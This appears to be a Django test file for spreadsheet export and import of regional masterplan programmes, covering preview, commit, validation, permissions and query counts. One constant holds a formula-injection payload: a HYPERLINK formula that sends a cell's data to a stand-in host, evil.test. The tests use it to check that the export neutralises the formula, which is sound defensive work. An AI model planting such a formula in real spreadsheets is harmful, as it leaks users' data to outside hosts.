"""Programme spreadsheet: export and template read back, formula injection, import preview and commit, leaks."""

import datetime
import io
from dataclasses import dataclass
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from kotacerdas.accounts.models import User
from kotacerdas.core.models import AuditEntry
from kotacerdas.masterplans import spreadsheets
from kotacerdas.masterplans.models import (
    ImportStatus,
    Masterplan,
    MasterplanProgramme,
    MasterplanStatus,
    ProgrammeImport,
    Strategy,
)
from kotacerdas.masterplans.services import create_masterplan
from kotacerdas.programmes.models import ParticipationStatus
from kotacerdas.regions.models import MembershipRole, Opd
from tests.factories import (
    CohortFactory,
    MasterplanProgrammeFactory,
    OpdFactory,
    ParticipationFactory,
    ProgrammeImportFactory,
    RegionFactory,
    RegionMembershipFactory,
    StrategyFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

XLSX = spreadsheets.XLSX_CONTENT_TYPE
TITLES = [c.title for c in spreadsheets.COLUMNS]
INJECTED = '=HYPERLINK("http://evil.test/?d="&A1,"klik")'


@dataclass
class Plans:
    """Two regions' masterplans in one cohort, with strategies, OPDs and programmes in region A."""

    mp_a: Masterplan
    mp_b: Masterplan
    editor_a: User
    viewer_a: User
    editor_b: User
    kominfo: Opd
    bappeda: Opd
    opd_b: Opd
    strategy_gov: Strategy
    strategy_eco: Strategy
    mall: MasterplanProgramme
    injected: MasterplanProgramme


@pytest.fixture
def plans(framework, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    cohort = CohortFactory(framework_version=framework)
    region_a = RegionFactory(name="Kabupaten Alfa")
    region_b = RegionFactory(name="Kota Beta")
    part_a = ParticipationFactory(cohort=cohort, region=region_a, status=ParticipationStatus.MENTORING)
    part_b = ParticipationFactory(cohort=cohort, region=region_b, status=ParticipationStatus.MENTORING)
    editor_a, viewer_a, editor_b = UserFactory(), UserFactory(), UserFactory()
    RegionMembershipFactory(user=editor_a, region=region_a, role=MembershipRole.EDITOR)
    RegionMembershipFactory(user=viewer_a, region=region_a, role=MembershipRole.VIEWER)
    RegionMembershipFactory(user=editor_b, region=region_b, role=MembershipRole.EDITOR)
    mp_a = create_masterplan(part_a, by=editor_a, start_year=2026)
    mp_b = create_masterplan(part_b, by=editor_b, start_year=2026)
    gov = framework.dimensions.get(code="GOV")
    eco = framework.dimensions.get(code="ECO")
    strategy_gov = StrategyFactory(masterplan=mp_a, dimension=gov, title="Layanan publik terpadu")
    strategy_eco = StrategyFactory(masterplan=mp_a, dimension=eco, title="UMKM naik kelas")
    strategy_b = StrategyFactory(masterplan=mp_b, dimension=gov, title="Strategi Beta")
    kominfo = OpdFactory(region=region_a, name="Dinas Komunikasi dan Informatika", short_name="Diskominfo")
    bappeda = OpdFactory(region=region_a, name="Bappeda")
    opd_b = OpdFactory(region=region_b, name="Dinas Kominfo Beta")
    mall = MasterplanProgrammeFactory(
        masterplan=mp_a,
        strategy=strategy_gov,
        element=gov.elements.get(code="GOV-1"),
        name="Mal pelayanan publik",
        description="Satu gedung untuk semua izin.",
        owner_opd=kominfo,
        funding_source="apbd",
        budget=Decimal("1500000000"),
        start_year=2026,
        end_year=2027,
        horizon="short",
        output="Gedung MPP",
        outcome="Izin lebih cepat",
        is_quick_win=True,
        delivery_months=6,
        expected_benefit="Warga hemat waktu",
        beneficiaries="Warga",
        commitment_signed_by="Bupati Alfa",
        commitment_signed_on=datetime.date(2026, 1, 15),
    )
    mall.partner_opds.add(bappeda)
    injected = MasterplanProgrammeFactory(
        masterplan=mp_a, strategy=strategy_eco, name=INJECTED, description="-5 persen biaya"
    )
    MasterplanProgrammeFactory(masterplan=mp_b, strategy=strategy_b)
    return Plans(
        mp_a,
        mp_b,
        editor_a,
        viewer_a,
        editor_b,
        kominfo,
        bappeda,
        opd_b,
        strategy_gov,
        strategy_eco,
        mall,
        injected,
    )


def _get_xlsx(client, masterplan, name="programmes_xlsx"):
    response = client.get(reverse(f"masterplans:{name}", args=[masterplan.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    return response.content


def _workbook(content):
    return load_workbook(io.BytesIO(content))


def _rows_by_id(sheet):
    return {row[0]: list(row) for row in sheet.iter_rows(min_row=2, values_only=True)}


def _set(sheet, programme_id, title, value):
    """Set the cell of one programme's row in the column with ``title``."""
    column = TITLES.index(title) + 1
    for row in range(2, sheet.max_row + 1):
        if sheet.cell(row=row, column=1).value == programme_id:
            sheet.cell(row=row, column=column).value = value  # cell(value=None) would keep the old value
            return row
    raise AssertionError(f"no row for programme {programme_id}")


def _bytes(workbook):
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _upload(client, masterplan, data, *, name="program.xlsx", content_type=XLSX):
    return client.post(
        reverse("masterplans:programmes_import", args=[masterplan.pk]),
        {"file": SimpleUploadedFile(name, data, content_type=content_type)},
    )


def _state(masterplan):
    """Everything an import could touch, to show that nothing moved."""
    return [
        (spreadsheets.canonical(p), p.revision)
        for p in masterplan.programmes.prefetch_related("partner_opds").order_by("pk")
    ]


# --- Export -------------------------------------------------------------------------------------------------


def test_export_contains_programme_values(plans, client):
    client.force_login(plans.editor_a)

    workbook = _workbook(_get_xlsx(client, plans.mp_a))

    sheet = workbook[spreadsheets.DATA_SHEET]
    assert [c.value for c in sheet[1]] == TITLES
    rows = _rows_by_id(sheet)
    assert set(rows) == {plans.mall.pk, plans.injected.pk}
    assert rows[plans.mall.pk] == [
        plans.mall.pk,
        "GOV",
        "Layanan publik terpadu",
        "GOV-1",
        "Mal pelayanan publik",
        "Satu gedung untuk semua izin.",
        "Dinas Komunikasi dan Informatika",
        "Bappeda",
        "apbd",
        1500000000,
        2026,
        2027,
        "short",
        "Gedung MPP",
        "Izin lebih cepat",
        "ya",
        6,
        "Warga hemat waktu",
        "Warga",
        "Bupati Alfa",
        datetime.datetime(2026, 1, 15),
    ]


def test_export_guide_sheet_lists_allowed_values(plans, client):
    client.force_login(plans.editor_a)

    workbook = _workbook(_get_xlsx(client, plans.mp_a))

    values = {c.value for row in workbook[spreadsheets.GUIDE_SHEET].iter_rows() for c in row}
    assert {"GOV", "BRA", "ECO", "LIV", "SOC", "ENV"} <= values
    assert {
        "Layanan publik terpadu",
        "UMKM naik kelas",
        "Bappeda",
        "Dinas Komunikasi dan Informatika",
    } <= values
    assert {"apbd", "apbn", "dak", "kpbu", "csr", "other", "short", "medium", "long"} <= values
    assert "Dinas Kominfo Beta" not in values
    assert "Strategi Beta" not in values


def test_export_neutralises_formula_text(plans, client):
    client.force_login(plans.editor_a)

    sheet = _workbook(_get_xlsx(client, plans.mp_a))[spreadsheets.DATA_SHEET]

    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == plans.injected.pk)
    name, description = row[TITLES.index("Nama program")], row[TITLES.index("Deskripsi")]
    assert (name.value, name.data_type) == ("'" + INJECTED, "s")
    assert (description.value, description.data_type) == ("'-5 persen biaya", "s")


def test_export_drops_control_characters_xlsx_cannot_hold(plans, client):
    MasterplanProgramme.objects.filter(pk=plans.mall.pk).update(
        description="Baris\x0bsatu\x1f"
    )  # NUL itself never reaches the database: forms refuse it
    client.force_login(plans.editor_a)

    sheet = _workbook(_get_xlsx(client, plans.mp_a))[spreadsheets.DATA_SHEET]

    assert _rows_by_id(sheet)[plans.mall.pk][TITLES.index("Deskripsi")] == "Barissatu"


def test_template_has_titles_and_guide_but_no_rows(plans, client):
    client.force_login(plans.editor_a)

    workbook = _workbook(_get_xlsx(client, plans.mp_a, "programmes_template"))

    sheet = workbook[spreadsheets.DATA_SHEET]
    assert [c.value for c in sheet[1]] == TITLES
    assert sheet.max_row == 1
    assert workbook.sheetnames == [spreadsheets.DATA_SHEET, spreadsheets.GUIDE_SHEET]


# --- Import: round trip -------------------------------------------------------------------------------------


def test_round_trip_one_changed_cell_previews_and_commits_that_change(plans, client):
    client.force_login(plans.editor_a)
    workbook = _workbook(_get_xlsx(client, plans.mp_a))
    sheet = workbook[spreadsheets.DATA_SHEET]
    _set(sheet, plans.mall.pk, "Anggaran (Rp)", 2000000000)

    response = _upload(client, plans.mp_a, _bytes(workbook))

    programme_import = ProgrammeImport.objects.get(masterplan=plans.mp_a)
    assert response.status_code == 302
    assert response["Location"] == reverse(
        "masterplans:programmes_import_preview", args=[plans.mp_a.pk, programme_import.pk]
    )
    rows = {r["id"]: r for r in programme_import.preview["rows"]}
    assert rows[plans.mall.pk]["action"] == "change"
    assert rows[plans.mall.pk]["changes"] == [
        {"column": "Anggaran (Rp)", "old": "1.500.000.000", "new": "2.000.000.000"}
    ]
    assert rows[plans.injected.pk]["action"] == "unchanged"
    assert programme_import.preview["counts"] == {"new": 0, "change": 1, "unchanged": 1, "error": 0}
    page = client.get(response["Location"])
    assert page.status_code == 200
    assert "2.000.000.000" in page.content.decode()
    assert "disabled" not in page.content.decode()

    response = client.post(
        reverse("masterplans:programmes_import_commit", args=[plans.mp_a.pk, programme_import.pk])
    )

    plans.mall.refresh_from_db()
    plans.injected.refresh_from_db()
    programme_import.refresh_from_db()
    assert response.status_code == 302
    assert (plans.mall.budget, plans.mall.revision) == (Decimal("2000000000"), 2)
    assert (plans.injected.name, plans.injected.revision) == (INJECTED, 1)
    assert programme_import.status == ImportStatus.COMMITTED
    entry = AuditEntry.objects.get(action="masterplan.import")
    assert (entry.target_id, entry.actor, entry.new_value, entry.region_code) == (
        str(plans.mp_a.pk),
        plans.editor_a,
        "0 ditambahkan, 1 diubah",  # the audit trail speaks the platform language
        plans.mp_a.region.code,
    )


def test_import_row_without_id_creates_programme(plans, client):
    client.force_login(plans.editor_a)
    workbook = _workbook(_get_xlsx(client, plans.mp_a, "programmes_template"))
    sheet = workbook[spreadsheets.DATA_SHEET]
    values = {
        "Kode dimensi": "eco",
        "Strategi": "umkm  naik kelas",
        "Nama program": "Pasar daring UMKM",
        "OPD penanggung jawab": "Diskominfo",
        "OPD mitra": "Bappeda",
        "Sumber dana": "APBN",
        "Anggaran (Rp)": "250.000.000",
        "Tahun mulai": 2027,
        "Tahun selesai": 2028,
        "Jangka waktu": "medium",
        "Quick win": "tidak",
        "Tanggal penandatanganan komitmen": "01/02/2027",
    }
    sheet.append([values.get(title) for title in TITLES])
    _upload(client, plans.mp_a, _bytes(workbook))
    programme_import = ProgrammeImport.objects.get()

    response = client.post(
        reverse("masterplans:programmes_import_commit", args=[plans.mp_a.pk, programme_import.pk])
    )

    created = MasterplanProgramme.objects.get(name="Pasar daring UMKM")
    assert response.status_code == 302
    assert (
        created.masterplan,
        created.strategy,
        created.owner_opd,
        list(created.partner_opds.all()),
        created.funding_source,
        created.budget,
        (created.start_year, created.end_year, created.horizon),
        created.commitment_signed_on,
    ) == (
        plans.mp_a,
        plans.strategy_eco,
        plans.kominfo,
        [plans.bappeda],
        "apbn",
        Decimal("250000000"),
        (2027, 2028, "medium"),
        datetime.date(2027, 2, 1),
    )
    assert AuditEntry.objects.get(action="masterplan.import").new_value == "1 ditambahkan, 0 diubah"


# --- Import: errors -----------------------------------------------------------------------------------------


def test_bad_row_shows_row_and_column_and_commit_writes_nothing(plans, client):
    client.force_login(plans.editor_a)
    workbook = _workbook(_get_xlsx(client, plans.mp_a))
    sheet = workbook[spreadsheets.DATA_SHEET]
    bad_row = _set(sheet, plans.mall.pk, "OPD penanggung jawab", "Dinas Yang Tidak Ada")
    _set(sheet, plans.injected.pk, "Nama program", "Nama baru yang sah")
    sheet.append([None, "GOV", "Layanan publik terpadu", None, "Program baru yang sah"])
    before = _state(plans.mp_a)

    response = _upload(client, plans.mp_a, _bytes(workbook))

    programme_import = ProgrammeImport.objects.get()
    errors = [(r["row"], r["errors"]) for r in programme_import.preview["rows"] if r["action"] == "error"]
    assert response.status_code == 302
    assert [(row, [(e["column"], e["letter"]) for e in errs]) for row, errs in errors] == [
        (bad_row, [("OPD penanggung jawab", "G")])
    ]
    assert "Dinas Yang Tidak Ada" in errors[0][1][0]["message"]
    page = client.get(response["Location"]).content.decode()
    assert f">{bad_row}<" in page
    assert "OPD penanggung jawab" in page
    assert "disabled" in page

    response = client.post(
        reverse("masterplans:programmes_import_commit", args=[plans.mp_a.pk, programme_import.pk])
    )

    programme_import.refresh_from_db()
    assert response.status_code == 302
    assert _state(plans.mp_a) == before
    assert not MasterplanProgramme.objects.filter(name="Program baru yang sah").exists()
    assert not AuditEntry.objects.filter(action="masterplan.import").exists()
    assert programme_import.status == ImportStatus.PREVIEW


@pytest.mark.parametrize(
    ("title", "value", "column"),
    [
        ("Nama program", None, "Nama program"),
        ("Kode dimensi", "XYZ", "Kode dimensi"),
        ("Strategi", "UMKM naik kelas", "Strategi"),  # exists, but in another dimension
        ("Kode elemen", "ECO-1", "Kode elemen"),
        ("OPD mitra", "Bappeda; Dinas Kominfo Beta", "OPD mitra"),  # another region's OPD
        ("OPD mitra", "Dinas Komunikasi dan Informatika", "OPD mitra"),  # the owner itself
        ("Sumber dana", "hibah", "Sumber dana"),
        ("Anggaran (Rp)", -1, "Anggaran (Rp)"),
        ("Anggaran (Rp)", 12.5, "Anggaran (Rp)"),
        ("Tahun mulai", 1999, "Tahun mulai"),
        ("Tahun selesai", 2025, "Tahun selesai"),  # before the start year 2026
        ("Jangka waktu", "sebentar", "Jangka waktu"),
        ("Quick win", "mungkin", "Quick win"),
        ("Waktu penyelesaian (bulan)", None, "Waktu penyelesaian (bulan)"),  # required for a quick win
        ("Waktu penyelesaian (bulan)", 13, "Waktu penyelesaian (bulan)"),
        ("Tanggal penandatanganan komitmen", "kemarin", "Tanggal penandatanganan komitmen"),
        ("ID", 999999, "ID"),
        ("Anggaran (Rp)", "=1+1", "Anggaran (Rp)"),  # a formula
    ],
)
def test_invalid_cell_is_reported_at_its_column(plans, client, title, value, column):
    client.force_login(plans.editor_a)
    workbook = _workbook(_get_xlsx(client, plans.mp_a))
    row = _set(workbook[spreadsheets.DATA_SHEET], plans.mall.pk, title, value)

    preview = spreadsheets.build_preview(plans.mp_a, _bytes(workbook))

    errors = [(r["row"], e["column"]) for r in preview["rows"] for e in r.get("errors", [])]
    assert errors == [(row, column)]


def test_same_id_twice_is_an_error(plans, client):
    client.force_login(plans.editor_a)
    workbook = _workbook(_get_xlsx(client, plans.mp_a))
    sheet = workbook[spreadsheets.DATA_SHEET]
    sheet.append([c.value for c in sheet[2]])

    preview = spreadsheets.build_preview(plans.mp_a, _bytes(workbook))

    assert [
        (r["row"], [e["column"] for e in r["errors"]]) for r in preview["rows"] if r["action"] == "error"
    ] == [(4, ["ID"])]


@pytest.mark.parametrize(
    ("name", "data", "content_type"),
    [
        ("program.csv", b"ID;Nama program\n;Program\n", "text/csv"),
        ("program.xls", b"\xd0\xcf\x11\xe0 old excel", "application/vnd.ms-excel"),
        ("program.xlsx", b"not a zip at all", XLSX),
        ("program.xlsx", b"PK\x03\x04 broken zip", XLSX),
        ("program.xlsx", b"x" * (spreadsheets.MAX_UPLOAD_BYTES + 1), XLSX),
        ("program.xlsx", b"<html></html>", "text/html"),
    ],
)
def test_unusable_upload_is_rejected_with_form_error(plans, client, name, data, content_type):
    client.force_login(plans.editor_a)

    response = _upload(client, plans.mp_a, data, name=name, content_type=content_type)

    assert response.status_code == 400
    assert response.context["form"].errors["file"]
    assert not ProgrammeImport.objects.exists()


def test_workbook_without_template_columns_is_rejected(plans, client):
    client.force_login(plans.editor_a)
    workbook = Workbook()
    workbook.active.append(["Nama", "Anggaran"])
    workbook.active.append(["Program", 100])

    response = _upload(client, plans.mp_a, _bytes(workbook))

    assert response.status_code == 400
    assert "Kode dimensi" in response.context["form"].errors["file"][0]
    assert not ProgrammeImport.objects.exists()


def test_commit_refused_when_programme_saved_after_preview(plans, client):
    client.force_login(plans.editor_a)
    workbook = _workbook(_get_xlsx(client, plans.mp_a))
    _set(workbook[spreadsheets.DATA_SHEET], plans.mall.pk, "Nama program", "Nama dari spreadsheet")
    _upload(client, plans.mp_a, _bytes(workbook))
    programme_import = ProgrammeImport.objects.get()
    MasterplanProgramme.objects.filter(pk=plans.mall.pk).update(outcome="Disunting di formulir", revision=2)
    before = _state(plans.mp_a)

    response = client.post(
        reverse("masterplans:programmes_import_commit", args=[plans.mp_a.pk, programme_import.pk])
    )

    programme_import.refresh_from_db()
    assert response.status_code == 302
    assert _state(plans.mp_a) == before
    assert programme_import.status == ImportStatus.PREVIEW
    assert {r["id"]: r.get("revision") for r in programme_import.preview["rows"]}[plans.mall.pk] == 2
    assert not AuditEntry.objects.filter(action="masterplan.import").exists()


def test_discard_marks_import_rejected(plans, client):
    client.force_login(plans.editor_a)
    _upload(client, plans.mp_a, _get_xlsx(client, plans.mp_a))
    programme_import = ProgrammeImport.objects.get()

    response = client.post(
        reverse("masterplans:programmes_import_discard", args=[plans.mp_a.pk, programme_import.pk])
    )
    commit = client.post(
        reverse("masterplans:programmes_import_commit", args=[plans.mp_a.pk, programme_import.pk])
    )

    programme_import.refresh_from_db()
    assert (response.status_code, commit.status_code) == (302, 302)
    assert programme_import.status == ImportStatus.REJECTED
    assert not AuditEntry.objects.filter(action="masterplan.import").exists()


# --- Permissions and leaks ----------------------------------------------------------------------------------


def _import_of(masterplan):
    return ProgrammeImportFactory(masterplan=masterplan)


def _all_urls(masterplan, programme_import):
    m, i = masterplan.pk, programme_import.pk
    return [
        ("get", reverse("masterplans:programmes_xlsx", args=[m])),
        ("get", reverse("masterplans:programmes_template", args=[m])),
        ("get", reverse("masterplans:programmes_import", args=[m])),
        ("post", reverse("masterplans:programmes_import", args=[m])),
        ("get", reverse("masterplans:programmes_import_preview", args=[m, i])),
        ("post", reverse("masterplans:programmes_import_commit", args=[m, i])),
        ("post", reverse("masterplans:programmes_import_discard", args=[m, i])),
    ]


def test_other_region_editor_gets_404_on_every_spreadsheet_url(plans, client):
    programme_import = _import_of(plans.mp_a)
    client.force_login(plans.editor_b)

    answers = [
        getattr(client, method)(url).status_code for method, url in _all_urls(plans.mp_a, programme_import)
    ]

    assert answers == [404] * 7
    assert ProgrammeImport.objects.get().status == ImportStatus.PREVIEW


def test_import_of_another_masterplan_answers_404(plans, client):
    import_b = _import_of(plans.mp_b)
    client.force_login(plans.editor_a)

    import_urls = _all_urls(plans.mp_a, import_b)[4:]  # preview, commit, discard

    answers = [getattr(client, method)(url).status_code for method, url in import_urls]

    assert answers == [404] * 3


def test_viewer_can_export_but_not_import(plans, client):
    programme_import = _import_of(plans.mp_a)
    client.force_login(plans.viewer_a)

    answers = [
        getattr(client, method)(url).status_code for method, url in _all_urls(plans.mp_a, programme_import)
    ]

    assert answers == [200, 200, 403, 403, 200, 403, 403]
    assert ProgrammeImport.objects.get().status == ImportStatus.PREVIEW


def test_editor_cannot_import_once_submitted(plans, client):
    Masterplan.objects.filter(pk=plans.mp_a.pk).update(status=MasterplanStatus.SUBMITTED)
    client.force_login(plans.editor_a)

    response = _upload(client, plans.mp_a, _get_xlsx(client, plans.mp_a))

    assert response.status_code == 403
    assert not ProgrammeImport.objects.exists()


def test_anonymous_is_sent_to_login(plans, client):
    response = client.get(reverse("masterplans:programmes_xlsx", args=[plans.mp_a.pk]))

    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


def test_panel_offers_upload_only_to_editors(plans, client):
    client.force_login(plans.viewer_a)
    viewer_page = client.get(reverse("masterplans:overview", args=[plans.mp_a.pk])).content.decode()
    client.force_login(plans.editor_a)
    editor_page = client.get(reverse("masterplans:overview", args=[plans.mp_a.pk])).content.decode()

    upload = reverse("masterplans:programmes_import", args=[plans.mp_a.pk])
    export = reverse("masterplans:programmes_xlsx", args=[plans.mp_a.pk])
    assert (export in viewer_page, f'action="{upload}"' in viewer_page) == (True, False)
    assert (export in editor_page, f'action="{upload}"' in editor_page) == (True, True)
    assert 'enctype="multipart/form-data"' in editor_page


def _add_programmes(plans, n):
    for programme in MasterplanProgrammeFactory.create_batch(
        n, masterplan=plans.mp_a, strategy=plans.strategy_eco, owner_opd=plans.kominfo
    ):
        programme.partner_opds.add(plans.bappeda)


@pytest.mark.parametrize("what", ["export", "preview"])
def test_query_count_does_not_grow_with_programmes(plans, client, what):
    client.force_login(plans.editor_a)
    counts = []

    for extra in (0, 10):
        _add_programmes(plans, extra)
        content = _get_xlsx(client, plans.mp_a)
        with CaptureQueriesContext(connection) as queries:
            if what == "export":
                _get_xlsx(client, plans.mp_a)
            else:
                spreadsheets.build_preview(plans.mp_a, content)
        counts.append(len(queries))

    assert counts[0] == counts[1]
